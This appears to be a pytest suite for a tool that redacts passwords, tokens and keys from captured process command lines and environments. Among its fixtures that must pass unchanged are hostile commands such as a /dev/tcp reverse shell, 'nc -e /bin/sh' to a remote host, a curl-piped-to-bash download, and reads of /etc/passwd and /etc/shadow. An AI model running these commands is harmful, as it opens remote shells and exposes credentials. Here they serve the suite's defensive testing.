"""Secrets that must leave, and evidence that must stay."""

from __future__ import annotations

import base64
import hashlib
import re
import time
from pathlib import Path
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hozen_agent.redaction import redactrules
from hozen_agent.redaction.redact import Redactor

S = b"Zq7-pl4nt_Xk93vWm"  # the plant
LONG = b"Zq7pl4ntXk93vWmAb0Cd1Ef2Gh3Ij4Kl5Mn6Op7Q"
B64 = base64.b64encode(b"user:" + S)
MARKER = re.compile(rb"\[redacted:[a-z_]+:[0-9]+\]")
REDACTOR = Redactor()


def line(*words: bytes) -> bytes:
    return b"\0".join(words) + b"\0"


COMMANDS = [
    line(b"prog", b"--password=" + S),
    line(b"prog", b"--password", S),
    line(b"prog", b"--db-password", S, b"--verbose"),
    line(b"prog", b"-passwd", S),
    line(b"prog", b"--passphrase=" + S + b" with blanks " + S),
    line(b"/usr/bin/mysql", b"-uroot", b"-p" + S, b"shop"),
    line(b"mysqldump", b"--password=" + S, b"shop"),
    line(b"sudo", b"-u", b"x", b"mysql", b"-p" + S),
    line(b"sshpass", b"-p", S, b"ssh", b"root@host"),
    line(b"sshpass", b"-p" + S, b"ssh", b"root@host"),
    line(b"curl", b"-u", b"alice:" + S, b"https://x"),
    line(b"curl", b"-ualice:" + S, b"https://x"),
    line(b"curl", b"-sSu", b"alice:" + S, b"https://x"),
    line(b"curl", b"--user", b"alice:" + S),
    line(b"curl", b"--proxy-user=alice:" + S),
    line(b"curl", b"-H", b"Authorization: Bearer " + S),
    line(b"curl", b"-H", b"Authorization: Basic " + B64),
    line(b"curl", b"-H", b"authorization: token " + S),
    line(b"curl", b"-H", b"X-Api-Key: " + S),
    line(b"curl", b"-HCookie: a=1; session=" + S),
    line(b"curl", b"-b", b"sid=" + S),
    line(b"curl", b"--oauth2-bearer", S),
    line(b"curl", b"-d", b"user=a&password=" + S + b"&x=1"),
    line(b"curl", b"-d", b'{"user":"a","password":"' + S + b'"}'),
    line(b"curl", b"-d", b'{\\"client_secret\\": \\"' + S + b'\\"}'),
    line(b"curl", b"https://x/?access_token=" + S + b"&y=2"),
    line(b"curl", b"https://x/?sig=" + S + b"%3D"),
    line(b"git", b"clone", b"https://alice:" + S + b"@git.example/x.git"),
    line(b"git", b"clone", b"https://alice:p@" + S + b"@git.example/x.git"),
    line(b"git", b"clone", b"https://" + LONG + b"@git.example/x.git"),
    line(b"psql", b"postgres://u:" + S + b"@db/x"),
    line(b"x", b"postgres%3A%2F%2Fu%3A" + S + b"%40db%2Fx"),
    line(b"x", quote(b"api_key=" + S).encode()),
    line(b"x", b"%70assword=" + S),
    line(b"x", b"--data", base64.b64encode(b"password=" + S)),
    line(b"x", b"--data", base64.urlsafe_b64encode(b'{"token":"' + S + b'"}').rstrip(b"=")),
    line(b"x", b"--data", (b"password=" + S).hex().encode()),
    line(b"env", b"DB_PASS=" + S, b"prog"),
    line(b"env", b"MYSQL_PWD=" + S, b"prog"),
    line(b"env", b"dbPass=" + S, b"prog"),
    line(b"java", b"-Djavax.net.ssl.keyStorePassword=" + S, b"-jar", b"a.jar"),
    line(b"keytool", b"-storepass", S),
    line(b"x", b"Server=db;Uid=sa;Pwd=" + S + b";Encrypt=yes"),
    line(b"mount", b"-o", b"username=u,password=" + S + b",uid=0", b"//h/s", b"/mnt"),
    line(b"sh", b"-c", b"mysql -uroot -p" + S + b" shop < x"),
    line(b"sh", b"-c", b"PGPASSWORD=" + S + b" psql -h db"),
    line(b"sh", b"-c", b"export TOKEN='" + S + b" x'; run"),
    line(b"sh", b"-c", b"echo " + S + b" | sudo -S id"),
    line(b"sh", b"-c", b"echo 'root:" + S + b"' | chpasswd"),
    line(b"sh", b"-c", b"sudo -S id <<< '" + S + b"'"),
    line(b"bash", b"-lc", b"ssh h \"mysql -p'" + S + b"'\""),
    line(b"psql", b"-c", b"ALTER USER a WITH PASSWORD '" + S + b"'"),
    line(b"mysql", b"-e", b"CREATE USER a IDENTIFIED BY '" + S + b"'"),
    line(b"openssl", b"enc", b"-pass", b"pass:" + S),
    line(b"openssl", b"enc", b"-k", S),
    line(b"7z", b"a", b"-p" + S, b"x.7z"),
    line(b"rar", b"a", b"-hp" + S, b"x.rar"),
    line(b"zip", b"-P", S, b"x.zip"),
    line(b"redis-cli", b"-a", S),
    line(b"redis-server", b"--requirepass", S),
    line(b"mongosh", b"-u", b"a", b"-p", S),
    line(b"ldapsearch", b"-x", b"-w", S),
    line(b"smbclient", b"-U", b"bob%" + S, b"//h/s"),
    line(b"sqlplus", b"scott/" + S + b"@orcl"),
    line(b"docker", b"login", b"-u", b"a", b"-p", S),
    line(b"nmcli", b"dev", b"wifi", b"connect", b"net", b"password", S),
    line(b"wpa_passphrase", b"net", S),
    line(b"htpasswd", b"-b", b"file", b"user", S),
    line(b"useradd", b"-p", S, b"bob"),
    line(b"impacket-psexec", b"corp/bob:" + S + b"@10.0.0.1"),
    line(b"snmpwalk", b"-c", S, b"host"),
    line(b"xfreerdp", b"/u:bob", b"/p:" + S),
    line(b"lftp", b"-u", b"bob," + S, b"host"),
    line(b"x", b"AKIAIOSFODNN7ZQ7PL4N", LONG),
    line(b"x", b"ghp_" + LONG),
    line(b"x", b"github_pat_" + LONG),
    line(b"x", b"xoxb-1234-" + LONG),
    line(b"x", b"https://hooks.slack.com/services/T0/B0/" + LONG),
    line(b"x", b"sk_live_" + LONG),
    line(b"x", b"glpat-" + LONG),
    line(b"x", b"AIza" + LONG[:35]),
    line(b"x", b"eyJhbGciOiJIUzI1NiJ9.eyJ" + LONG + b"." + LONG),
    line(b"x", b"-----BEGIN RSA PRIVATE KEY-----\n" + LONG + b"\n-----END RSA PRIVATE KEY-----"),
    line(b"x", b"-----BEGIN OPENSSH PRIVATE KEY-----\n" + LONG),
    line(b"x", "パスワード=".encode() + S),
    line(b"x", b"--token", S, b"--repeat", S),
    b"worker: db postgres://u:" + S + b"@h/x (idle)",
    b"app --api-key " + S + b" running\0",
    line(b"x", b"<password>" + S + b"</password>"),
    line(b"python3", b"-c", b"requests.get(u, auth=('alice', '" + S + b"'))"),
    line(b"expect", b"-c", b'spawn ssh h; expect x; send "' + S + b'\\r"'),
    line(b"kubectl", b"create", b"secret", b"generic", b"x", b"--from-literal=any=" + S),
    line(b"vault", b"kv", b"put", b"secret/x", b"any=" + S + b"@x"),
    line(b"aws", b"configure", b"set", b"aws_secret_access_key", S),
    line(b"curl", b"alice:" + S + b"@host/path"),
    line(b"curl", b"-d", b"user=a&pw=" + S),
    line(b"docker", b"run", b"-e", b"MYSQL_ROOT_PASSWORD=" + S, b"mysql"),
    line(b"helm", b"install", b"--set", b"auth.rootPassword=" + S + b",replicas=3"),
    line(b"git", b"-c", b"http.extraheader=AUTHORIZATION: basic " + B64, b"fetch"),
    line(b"x", b"-----BEGIN RSA PRIVATE KEY-----\nDEK-Info: AES-128-CBC,00\n\n" + LONG),
    line(b"x\xff\xfe", b"\x80--password", b"--password", b"\xff" + S),
]


@pytest.mark.parametrize("raw", COMMANDS, ids=lambda raw: repr(raw[:48]))
def test_a_secret_in_a_command_line_leaves(raw: bytes) -> None:
    counts: dict[str, int] = {}
    clean = REDACTOR.command_line(raw, counts)
    for plant in (S, LONG, LONG[:20], B64, b"pl4nt", b"PL4N"):
        assert plant not in clean
    assert MARKER.search(clean)
    assert sum(counts.values()) >= 1
    assert clean.count(b"\0") == raw.count(b"\0")


@pytest.mark.parametrize("raw", COMMANDS, ids=lambda raw: repr(raw[:48]))
def test_the_same_plants_are_there_with_redaction_off(raw: bytes) -> None:
    assert Redactor(enabled=False).command_line(raw, {}) == raw


@pytest.mark.parametrize("raw", COMMANDS, ids=lambda raw: repr(raw[:48]))
def test_redacting_twice_changes_nothing_more(raw: bytes) -> None:
    once = REDACTOR.command_line(raw, {})
    again: dict[str, int] = {}
    assert REDACTOR.command_line(once, again) == once
    assert again == {}


@pytest.mark.parametrize(
    "raw",
    [
        line(b"/usr/sbin/sshd", b"-D"),
        line(b"grep", b"-r", b"password", b"/etc"),
        line(b"docker", b"run", b"-p", b"8080:80", b"nginx"),
        line(b"docker", b"run", b"nginx:1.25@sha256:" + b"ab" * 32),
        line(b"rsync", b"-a", b"root@203.0.113.9:/etc/", b"/tmp/x"),
        line(b"mysql", b"-uroot", b"-p", b"shop"),
        line(b"mysqld", b"--port=3306", b"--datadir=/var/lib/mysql"),
        line(b"x", b"--password-file=/etc/x/pw", b"--token-file", b"/run/t"),
        line(b"x", b"--ask-password", b"--verbose"),
        line(b"llm", b"--max-tokens=4096", b"--tokenizer=/models/x"),
        line(b"/usr/lib/systemd/systemd-logind"),
        line(b"/usr/lib/polkit-1/polkitd", b"--no-debug"),
        line(b"curl", b"http://10.0.0.1:8080/path@x"),
        line(b"npm", b"i", b"http://localhost:4873/@scope/pkg"),
        line(b"python3", b"-c", b"import os; os.execv('/bin/sh', ['sh'])"),
        line(b"bash", b"-i"),
        line(b"openvpn", b"--auth-user-pass", b"/etc/openvpn/auth.txt"),
        line(b"Xorg", b":0", b"-auth", b"/run/lightdm/root/:0"),
        line(b"gpg", b"--batch", b"--passphrase-fd", b"0"),
        line(b"bash", b"-c", b"curl -fsSL http://203.0.113.5:8080/x.sh | bash -s -- --key abc"),
        line(b"bash", b"-c", b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
        line(b"ssh", b"-R", b"9000:localhost:22", b"user@203.0.113.9"),
        line(b"containerd-shim", b"-id", b"0123456789abcdef" * 4),
        line(b"nc", b"-e", b"/bin/sh", b"203.0.113.9", b"4444"),
        line(b"git", b"checkout", b"da39a3ee5e6b4b0d3255bfef95601890afd80709"),
        line(b"cp", b"/etc/passwd", b"/tmp/x"),
        line(b"ssh", b"-i", b"/root/.ssh/id_ed25519", b"root@203.0.113.9"),
        line(b"find", b"/", b"-perm", b"-4000"),
        line(b"sh", b"-c", b"cd $PWD; PWD=/tmp ls /etc/shadow"),
        line(b"base64", b"-d", base64.b64encode(b"#!/bin/sh\nid\nuname -a\n")),
        b"nginx: worker process\0",
        b"postgres: checkpointer \0",
        b"sshd: alice [priv]\0",
        b"",
    ],
    ids=lambda raw: repr(raw[:48]),
)
def test_a_command_line_without_secrets_stays_byte_for_byte(raw: bytes) -> None:
    counts: dict[str, int] = {}
    assert REDACTOR.command_line(raw, counts) == raw
    assert counts == {}


def test_what_surrounds_a_secret_stays() -> None:
    def clean(*words: bytes) -> list[bytes]:
        return REDACTOR.command_line(line(*words), {}).split(b"\0")[:-1]

    assert clean(b"mysql", b"-uroot", b"-pabc123", b"shop") == [
        b"mysql",
        b"-uroot",
        b"-p[redacted:password:6]",
        b"shop",
    ]
    assert clean(b"curl", b"-u", b"alice:pw", b"https://h/")[2] == b"alice:[redacted:password:2]"
    assert clean(b"x", b"https://u:pw@h/p")[1] == b"https://u:[redacted:userinfo:2]@h/p"
    assert clean(b"sh", b"-c", b"PGPASSWORD=x psql -h db")[2] == (
        b"PGPASSWORD=[redacted:password:1] psql -h db"
    )
    mount = clean(b"mount", b"-o", b"username=u,password=abc,uid=0", b"//h/s")
    assert mount[2] == b"username=u,password=[redacted:password:3],uid=0"
    assert clean(b"x", b"sqlplus", b"scott/tiger@orcl")[2] == b"scott/[redacted:password:5]@orcl"


def test_only_listed_variables_keep_their_value() -> None:
    raw = line(
        b"PATH=/bin",
        b"LD_PRELOAD=/tmp/x.so",
        b"LC_ALL=C",
        b"SSH_CONNECTION=203.0.113.9 5 10.0.0.1 22",
        b"http_proxy=http://u:" + S + b"@proxy:3128",
        b"SUDO_COMMAND=/usr/bin/mysql -p" + S,
        b"AWS_SECRET_ACCESS_KEY=" + S,
        b"ANYTHING=" + S,
        b"EMPTY=",
        b"no equals " + S,
        b"=" + S,
        b"\xff\xfe=" + S,
    )
    counts: dict[str, int] = {}
    clean = REDACTOR.environ(raw, counts).split(b"\0")
    assert clean[:4] == raw.split(b"\0")[:4]
    assert clean[4] == b"http_proxy=http://u:[redacted:userinfo:17]@proxy:3128"
    assert clean[5] == b"SUDO_COMMAND=/usr/bin/mysql -p[redacted:password:17]"
    assert clean[6] == b"AWS_SECRET_ACCESS_KEY=[redacted:env:17]"
    assert clean[8] == b"EMPTY="
    assert clean[9] == b"[redacted:env:%d]" % len(b"no equals " + S)
    assert S not in b"\0".join(clean)
    assert counts == {"env": 5, "userinfo": 1, "password": 1}


def test_our_own_arguments_keep_their_number() -> None:
    argv = ["hozen", "capture", "--collector", "https://u:" + S.decode() + "@c/", "", "a b"]
    clean = REDACTOR.argv(argv)
    assert len(clean) == len(argv)
    assert S.decode() not in " ".join(clean)
    assert clean[4:] == ["", "a b"]
    assert REDACTOR.argv([]) == []


@pytest.mark.parametrize("name", [b"token=Zq7pl4nt", b"-p Zq7 pass=x1", b"k\xff pwd=Zq7pl4nt"])
def test_a_secret_in_a_process_name_leaves(name: bytes) -> None:
    clean = REDACTOR.text(name, {})
    assert MARKER.search(clean)
    assert b"pl4nt" not in clean


def test_the_hash_of_the_rules_is_that_of_their_file() -> None:
    path = Path(redactrules.__file__).parents[1] / "definitions" / "redaction.txt"
    assert REDACTOR.rules_sha256 == hashlib.sha256(path.read_bytes()).hexdigest()


def test_every_name_rule_is_reached_by_a_name_word() -> None:
    # The quick look before the patterns must not miss a name that the patterns would find.
    samples = (
        b"password passphrase pass_code pass passin dbPass xPwd MYSQL_PWD Pwd requirepass pswd psw psk otp totp pin "
        b"passcode token jwt bearer sas authorization x-amz-signature x-amz-security secret apikey api_key wif "
        b"cookie session_id sesskey credential creds connection_string dsn userpwd webhook"
    ).split()
    rules, _ = redactrules.load()
    for kind, pattern in rules.names:
        hit = [s for s in samples if re.search(pattern, s, re.IGNORECASE)]
        if pattern.startswith(rb"\x"):
            continue
        assert hit, (kind, pattern)
    for sample in samples:
        assert any(word in sample.lower() for word in redactrules.NAME_WORDS), sample


def test_every_rule_compiles() -> None:
    rules, _ = redactrules.load()
    for shape in rules.shapes:
        assert list(shape.find(b"")) == []
        assert shape.words
    assert rules.secret_name(b"--password") == b"password"
    assert rules.secret_name(b"--path") is None


@pytest.mark.parametrize(
    "piece",
    [
        b"a", b" ", b"'", b'"', b"\\", b"=", b":", b"/", b"@", b"%41", b"password", b"password=", b"pass:", b"://",
        b"://a:", b"-", b"--token ", b"eyJ", b"eyJaaaaaaaaa.", b"A" * 39 + b" akia", b"echo ", b"echo a", b"<<<",
        b"-----BEGIN PRIVATE KEY-----", b"cookie:", b"&", b"password=&", b"mysql -p", b"sudo -S ", b"x/y:",
        b"<token>", b"akia/+", b"xoxb-", b"identified by '", b"authorization ", b"%3A%2F%2F", b"%3A",
    ],
)  # fmt: skip
def test_the_time_grows_with_the_length_only(piece: bytes) -> None:
    def cost(size: int) -> float:
        raw = (piece * (size // len(piece) + 1))[:size]
        begun = time.process_time()
        Redactor().text(raw, {})
        Redactor().command_line(raw.replace(b" ", b"\0") + b"\0", {})
        return time.process_time() - begun

    assert cost(64_000) < 2.5


@given(st.binary(max_size=300))
def test_any_bytes_pass_and_the_number_of_arguments_stays(raw: bytes) -> None:
    assert REDACTOR.command_line(raw, {}).count(b"\0") == raw.count(b"\0")
    assert REDACTOR.environ(raw, {}).count(b"\0") == raw.count(b"\0")
    REDACTOR.text(raw, {})


WORD = st.text("abcXYZ019_-.+/", min_size=8, max_size=24).filter(lambda w: not w.startswith("-"))


@given(WORD, st.sampled_from(["--password={}", "--password\0{}", "--api-key={}", "TOKEN={}"]))
def test_no_value_behind_a_secret_name_survives(secret: str, form: str) -> None:
    raw = ("prog\0" + form.format(secret) + "\0--verbose\0").encode()
    clean = REDACTOR.command_line(raw, {})
    assert secret.encode() not in clean
    assert clean.endswith(b"\0--verbose\0")
